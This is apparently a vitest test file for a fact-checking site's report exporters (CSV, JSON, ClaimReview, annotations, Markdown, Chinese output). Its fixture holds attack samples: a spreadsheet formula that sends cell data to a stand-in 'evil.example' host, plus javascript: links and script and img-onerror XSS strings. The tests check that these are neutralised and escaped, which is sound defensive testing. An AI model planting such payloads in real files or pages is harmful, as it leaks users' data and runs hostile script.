import { parse } from "csv-parse/sync";
import { marked } from "marked";
import { describe, expect, it } from "vitest";
import { reportAnnotations } from "./report-annotations";
import { reportClaimReviews } from "./report-claimreview";
import { CLAIM_CSV_COLUMNS, claimsCsv, EVENT_COLUMNS, eventsCsv, neutraliseFormula } from "./report-csv";
import { reportJson } from "./report-json";
import { escapeMarkdown, reportMarkdown } from "./report-markdown";
import { describeScope, type ReportData, reportTitle } from "./report-model";
import { reportText } from "./report-text";
import { parseTrackerQuery } from "../tracker-query";

const SITE = "https://claimline.example";
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

function fixture(): ReportData {
  return {
    title: "Verification report: 测试文章, \"quoted\"",
    scope: { kind: "desk" },
    scopeDescription: "Every published claim on the desk.",
    asOf: "2024-01-01",
    generatedFor: "2024-01-01",
    articles: [
      { slug: "openai-open-source", title: "OpenAI 将发布开源模型", summary: null, outlet: "科技日报", byline: null, language: "zh-Hans", publishedDate: "2023-05-15", sourceUrl: "https://news.example/a?id=1" },
      { slug: "no-source", title: "Local copy", summary: null, outlet: null, byline: null, language: "en", publishedDate: null, sourceUrl: null },
    ],
    claims: [
      {
        id: 7,
        statement: "OpenAI 估值约为270亿美元, \"据报道\"",
        claimant: "路透社",
        claimantType: "organization",
        claimDate: "2023-05-15",
        kind: "quantity",
        currentStatus: "outdated",
        statusLabel: "Outdated",
        rating: null,
        mentions: [
          {
            mentionId: 11,
            articleSlug: "openai-open-source",
            articleTitle: "OpenAI 将发布开源模型",
            articleUrl: "https://news.example/a?id=1",
            exact: "估值约为270亿美元",
            prefix: "据报道，OpenAI 目前",
            suffix: "。",
            start: 12,
            end: 22,
            anchorState: "anchored",
          },
        ],
        timeline: [
          {
            id: 101,
            statusKey: "pending",
            effectiveDate: "2023-05-15",
            effectivePrecision: "day",
            recordedAt: "2023-05-16T10:00:00.000Z",
            rationale: "Reported by 路透社.\nSecond line, with \"quotes\".",
            correctsEventId: null,
            authorName: "Desk",
            sources: [
              { url: "https://a.example/1", title: "来源 一", publisher: "A", publishedDate: "2023-05-15", archivedUrl: null },
              { url: "https://b.example/2", title: null, publisher: null, publishedDate: null, archivedUrl: "https://archive.example/b" },
            ],
          },
          {
            id: 102,
            statusKey: "outdated",
            effectiveDate: "2023-12-01",
            effectivePrecision: "month",
            recordedAt: "2023-12-02T10:00:00.000Z",
            rationale: null,
            correctsEventId: 101,
            authorName: null,
            sources: [],
          },
        ],
      },
      {
        id: 8,
        statement: FORMULA,
        claimant: "-Anonymous",
        claimantType: null,
        claimDate: null,
        kind: "fact",
        currentStatus: "false",
        statusLabel: "False",
        rating: 1,
        mentions: [
          {
            mentionId: 12,
            articleSlug: "no-source",
            articleTitle: "Local copy",
            articleUrl: null,
            exact: "[click](javascript:alert(1)) <img src=x onerror=alert(1)>",
            prefix: "",
            suffix: "",
            start: 0,
            end: 55,
            anchorState: "orphaned",
          },
        ],
        timeline: [
          {
            id: 103,
            statusKey: "false",
            effectiveDate: "2023-06-01",
            effectivePrecision: "day",
            recordedAt: "2023-06-02T08:30:00.000Z",
            rationale: "@everyone\n# Not a heading\n<script>alert(1)</script>",
            correctsEventId: null,
            authorName: null,
            sources: [{ url: "javascript:alert(1)", title: "bad", publisher: null, publishedDate: null, archivedUrl: null }],
          },
        ],
      },
    ],
    statuses: [
      { key: "pending", labelEn: "Pending", labelZh: "待定", color: "#555", icon: "clock", resolved: false, ratingValue: null, retired: false },
      { key: "false", labelEn: "False", labelZh: "错误", color: "#a00", icon: "x", resolved: true, ratingValue: 1, retired: false },
      { key: "outdated", labelEn: "Outdated", labelZh: "过时", color: "#666", icon: "archive", resolved: true, ratingValue: null, retired: false },
    ],
  };
}

const BOM = "\uFEFF";

function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
}

describe("eventsCsv", () => {
  const csv = eventsCsv(fixture());

  it("is UTF-8 with a BOM, CRLF between records, and a header of the documented columns", () => {
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.slice(1).split("\r\n")[0]).toBe(EVENT_COLUMNS.join(","));
    // Outside quoted fields, every line break is CRLF.
    expect(csv.replace(/"(?:[^"]|"")*"/g, "").match(/(?<!\r)\n/)).toBeNull();
  });

  it("has one row per event, full history, with Chinese, commas, quotes and newlines intact", () => {
    const rows = parseCsv(csv);
    expect(rows.map((r) => r.event_id)).toEqual(["101", "102", "103"]);
    const [first, second] = rows;
    expect(first).toMatchObject({
      claim_id: "7",
      statement: 'OpenAI 估值约为270亿美元, "据报道"',
      claimant: "路透社",
      claim_date: "2023-05-15",
      kind: "quantity",
      status_key: "pending",
      status_label: "Pending",
      effective_date: "2023-05-15",
      precision: "day",
      recorded_at: "2023-05-16T10:00:00.000Z",
      rationale: 'Reported by 路透社.\nSecond line, with "quotes".',
      corrects_event_id: "",
      sources: "https://a.example/1 来源 一 | https://b.example/2",
    });
    expect(second).toMatchObject({ status_key: "outdated", precision: "month", corrects_event_id: "101", rationale: "" });
  });

  it("neutralises cells a spreadsheet would run as a formula", () => {
    const row = parseCsv(csv)[2]!;
    expect(row.statement).toBe(`'${FORMULA}`);
    expect(row.claimant).toBe("'-Anonymous");
    expect(row.rationale).toBe("'@everyone\n# Not a heading\n<script>alert(1)</script>");
    expect(row.claim_id).toBe("8");
  });
});

describe("neutraliseFormula", () => {
  it("prefixes only the risky first characters", () => {
    expect(["=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "中文", ""].map(neutraliseFormula)).toEqual(["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "中文", ""]);
  });
});

describe("claimsCsv", () => {
  it("has one row per claim with its current status", () => {
    const csv = claimsCsv(fixture());
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.slice(1).split("\r\n")[0]).toBe(CLAIM_CSV_COLUMNS.join(","));
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({ claim_id: "7", status_key: "outdated", status_label: "Outdated", rating: "", event_count: "2", last_recorded_at: "2023-12-02T10:00:00.000Z", articles: "OpenAI 将发布开源模型", quotes: "估值约为270亿美元" });
    expect(rows[1]).toMatchObject({ claim_id: "8", statement: `'${FORMULA}`, status_key: "false", rating: "1" });
  });
});

describe("reportJson", () => {
  it("is stable, indented JSON with a trailing newline and sorted scorecard keys", () => {
    const json = reportJson(fixture());
    expect(json).toBe(reportJson(fixture()));
    expect(json.endsWith("}\n")).toBe(true);
    expect(json).toContain('\n  "title": ');
    const parsed = JSON.parse(json);
    expect(Object.keys(parsed.scorecard)).toEqual(["false", "outdated"]);
    expect(parsed.claims[0].statement).toBe('OpenAI 估值约为270亿美元, "据报道"');
    expect(parsed.format).toBe("claimline-report/1");
  });
});

describe("reportClaimReviews", () => {
  it("gives one ClaimReview per claim, built like the claim pages' JSON-LD", () => {
    const [first, second] = reportClaimReviews(fixture(), { siteUrl: SITE });
    expect(first).toMatchObject({
      "@context": "https://schema.org",
      "@type": "ClaimReview",
      url: `${SITE}/claims/7`,
      claimReviewed: 'OpenAI 估值约为270亿美元, "据报道"',
      datePublished: "2023-05-16",
      dateModified: "2023-12-02",
      author: { name: "Claimline", url: SITE },
      reviewRating: { "@type": "Rating", alternateName: "Outdated" },
      itemReviewed: {
        author: { "@type": "Organization", name: "路透社" },
        datePublished: "2023-05-15",
        appearance: [{ url: "https://news.example/a?id=1", headline: "OpenAI 将发布开源模型", datePublished: "2023-05-15", publisher: { name: "科技日报" } }],
      },
    });
    expect(first!.reviewRating.ratingValue).toBeUndefined();
    expect(second!.reviewRating).toEqual({ "@type": "Rating", ratingValue: 1, bestRating: 5, worstRating: 1, alternateName: "False" });
    expect(second!.itemReviewed.appearance[0]!.url).toBe(`${SITE}/articles/no-source`);
  });
});

describe("reportAnnotations", () => {
  it("has one assessing annotation per mention, on our article page by quote and position within the body, and on the original by quote", () => {
    const collectionId = `${SITE}/api/v1/articles/demo/annotations.jsonld?asof=2024-01-01`;
    const collection = reportAnnotations(fixture(), { siteUrl: SITE, collectionId });
    expect(collection["@context"]).toBe("http://www.w3.org/ns/anno.jsonld");
    expect(collection.type).toBe("AnnotationCollection");
    // Data Model §5.1 and §5.2: a collection and each of its pages MUST have an id.
    expect(collection.id).toBe(collectionId);
    expect(collection.first).toMatchObject({ id: `${collectionId}#page-1`, type: "AnnotationPage", partOf: collectionId, startIndex: 0 });
    expect(collection.total).toBe(2);
    const [first, second] = collection.first.items;
    const quote = { type: "TextQuoteSelector", exact: "估值约为270亿美元", prefix: "据报道，OpenAI 目前", suffix: "。" };
    expect(first).toEqual({
      id: `${SITE}/claims/7#mention-11`,
      type: "Annotation",
      motivation: "assessing",
      created: "2023-05-16T10:00:00.000Z",
      body: [
        { type: "TextualBody", value: 'Outdated: OpenAI 估值约为270亿美元, "据报道"', format: "text/plain", purpose: "assessing" },
        { id: `${SITE}/claims/7`, type: "Text", format: "text/html" },
      ],
      target: [
        {
          // Our page: the article body element, then its words by quote or by code point
          // offsets within it; the quote alone too, for clients that ignore refinements.
          source: `${SITE}/articles/openai-open-source`,
          selector: [
            { type: "CssSelector", value: "#article-body", refinedBy: [quote, { type: "TextPositionSelector", start: 12, end: 22 }] },
            quote,
          ],
        },
        // The original, whose text is not ours: the quote alone.
        { source: "https://news.example/a?id=1", selector: [quote] },
      ],
    });
    // No source URL: our article page alone; orphaned: the quote within the body alone, its
    // offsets point at nothing.
    expect(second!.target).toEqual([{ source: `${SITE}/articles/no-source`, selector: [{ type: "CssSelector", value: "#article-body", refinedBy: [expect.objectContaining({ type: "TextQuoteSelector" })] }] }]);
    expect(second!.created).toBe("2023-06-02T08:30:00.000Z");
  });

  it("falls back to the claim date, then to no date, before any event", () => {
    const data = fixture();
    data.claims[0]!.timeline = [];
    data.claims[1]!.timeline = [];
    const [first, second] = reportAnnotations(data, { siteUrl: SITE, collectionId: `${SITE}/reports/x` }).first.items;
    expect(first!.created).toBe("2023-05-15T00:00:00Z");
    expect(second!.created).toBeUndefined();
  });
});

describe("reportMarkdown", () => {
  const md = reportMarkdown(fixture(), { siteUrl: SITE });
  const html = marked.parse(md, { async: false });

  it("states the scope, the as-of day and a scorecard, then each claim with its timeline", () => {
    expect(md).toContain("# Verification report: 测试文章, \"quoted\"\n");
    expect(md).toContain("As of 1 Jan 2024: only what had been recorded by the end of that day (UTC) counts");
    expect(md).toContain("| Status | Claims |\n| --- | ---: |\n| False | 1 |\n| Outdated | 1 |\n| Total | 2 |");
    expect(md).toContain("### 1. OpenAI 估值约为270亿美元, \"据报道\"");
    expect(md).toContain("- Status: **Outdated**");
    expect(md).toContain("- Status: **False** (rating 1/5)");
    expect(md).toContain("> 估值约为270亿美元");
    expect(md).toContain(`- Claim page: <${SITE}/claims/7>`);
    expect(md).toContain("   Reported by 路透社.\n\n   Second line, with \"quotes\".");
    expect(md).toContain("**Dec 2023**: Outdated (correction of event 101)");
    expect(md).toContain("[来源 一](<https://a.example/1>) — A, 15 May 2023");
    expect(md).toContain("([archived copy](<https://archive.example/b>))");
    expect(md.endsWith("\n")).toBe(true);
    expect(html).toContain("<table>");
    expect(html).toContain('<a href="https://a.example/1">来源 一</a>');
  });

  it("escapes user text so it cannot inject links, HTML or structure", () => {
    expect(html).not.toMatch(/<img|<script|href="javascript/i);
    expect(html).not.toContain("<h1>Not a heading");
    expect(html).not.toMatch(/<a href="http:\/\/evil/);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    // The escapes disappear when rendered: readers see the words as written.
    expect(html).toContain("[click](javascript:alert(1))");
    expect(escapeMarkdown("a\nb *c* www.x.com https://y.example")).toBe("a b \\*c\\* www\\.x.com https\\://y.example");
    expect(escapeMarkdown(" - item")).toBe("\\- item");
    expect(escapeMarkdown("1. first")).toBe("1\\. first");
    expect(marked.parse(escapeMarkdown("see www.evil.example or https://evil.example or a@evil.example"), { async: false })).not.toContain("<a");
  });

  it("says what it stands on without an as-of day", () => {
    const data = { ...fixture(), asOf: null, generatedFor: "2023-12-02T10:00:00.000Z" };
    expect(reportMarkdown(data, { siteUrl: SITE })).toContain("As recorded up to 2 Dec 2023, 10:00 UTC.");
  });
});

describe("a report in Chinese (?lang=zh-Hans)", () => {
  const englishEvents = eventsCsv(fixture());
  const chineseEvents = eventsCsv(fixture(), "zh-Hans");
  const firstLine = (csv: string) => csv.slice(1).split("\r\n")[0];

  it("has a Chinese CSV header row, and English stays the columns' names", () => {
    expect(eventsCsv(fixture(), "en")).toBe(englishEvents);
    expect(firstLine(englishEvents)).toBe(EVENT_COLUMNS.join(","));
    expect(firstLine(chineseEvents)).toBe("说法 ID,说法,提出者,提出日期,类型,状态记录 ID,状态键,状态,生效日期,日期精度,记录于,理由,更正的状态记录 ID,来源");
    expect(firstLine(claimsCsv(fixture(), "zh-Hans"))).toBe("说法 ID,说法,提出者,提出日期,类型,状态键,状态,评分,状态记录数,最近记录于,文章,引文");
    expect(firstLine(claimsCsv(fixture()))).toBe(CLAIM_CSV_COLUMNS.join(","));
  });

  it("changes only the header row: the cells are data", () => {
    expect(chineseEvents.slice(chineseEvents.indexOf("\r\n"))).toBe(englishEvents.slice(englishEvents.indexOf("\r\n")));
  });

  it("writes Markdown headings, labels and dates in Chinese, English unchanged", () => {
    const english = reportMarkdown(fixture(), { siteUrl: SITE });
    expect(reportMarkdown(fixture(), { siteUrl: SITE, locale: "en" })).toBe(english);
    const headings = (markdown: string) => markdown.split("\n").filter((line) => /^#{2,4} /.test(line) && !line.startsWith("### "));
    expect(headings(english)).toEqual(["## Scorecard", "## Articles", "## Claims", "#### Timeline", "#### Timeline"]);
    expect(english).toContain("| Status | Claims |");
    expect(english).toContain("As of 1 Jan 2024: only what had been recorded");

    const chinese = reportMarkdown(fixture(), { siteUrl: SITE, locale: "zh-Hans" });
    expect(headings(chinese)).toEqual(["## 状态统计", "## 文章", "## 说法", "#### 时间线", "#### 时间线"]);
    expect(chinese).toContain("# 核查报告：全部已发布说法");
    expect(chinese).toContain("编辑部全部已发布的说法。");
    expect(chinese).toContain("截至 2024年1月1日（按记录日期）");
    expect(chinese).toContain("| 状态 | 说法数 |");
    expect(chinese).toContain("| 过时 | 1 |");
    expect(chinese).toContain("- 状态：**错误**（评分 1/5）");
    expect(chinese).toContain("- 类型：数据");
    expect(chinese).toContain("2. **2023年12月**：过时（更正状态记录 101）");
    expect(chinese).toContain("   状态记录 102，记录于 2023年12月2日 10:00 UTC。");
    // What users wrote is not translated.
    expect(chinese).toContain("OpenAI 估值约为270亿美元");
    expect(chinese).not.toMatch(/Scorecard|Timeline|Status:|recorded/);
  });
});

describe("a report's scope in words", () => {
  const query = parseTrackerQuery(new URLSearchParams("q=估值&status=false&status=outdated&claimant=路透社"));
  const article = { title: "OpenAI 将发布开源模型", outlet: "科技日报", publishedDate: "2023-05-15" };

  it("reads the same in English as before, and in Chinese in a Chinese report", () => {
    expect(describeScope({ kind: "tracker", query }, null)).toBe("The published claims in the tracker matching “估值”, status false or outdated, claimant containing “路透社”.");
    expect(describeScope({ kind: "tracker", query }, null, reportText("zh-Hans"))).toBe("说法追踪中匹配“估值”、状态为 false 或 outdated、提出者包含“路透社”的已发布说法。");
    expect(describeScope({ kind: "article", slug: "a" }, article)).toBe("The claims made in the article “OpenAI 将发布开源模型” (科技日报, 2023-05-15).");
    expect(describeScope({ kind: "article", slug: "a" }, article, reportText("zh-Hans"))).toBe("文章《OpenAI 将发布开源模型》（科技日报，2023-05-15）中提出的说法。");
    expect(reportTitle({ kind: "desk" }, null, reportText("zh-Hans"))).toBe("核查报告：全部已发布说法");
  });
});
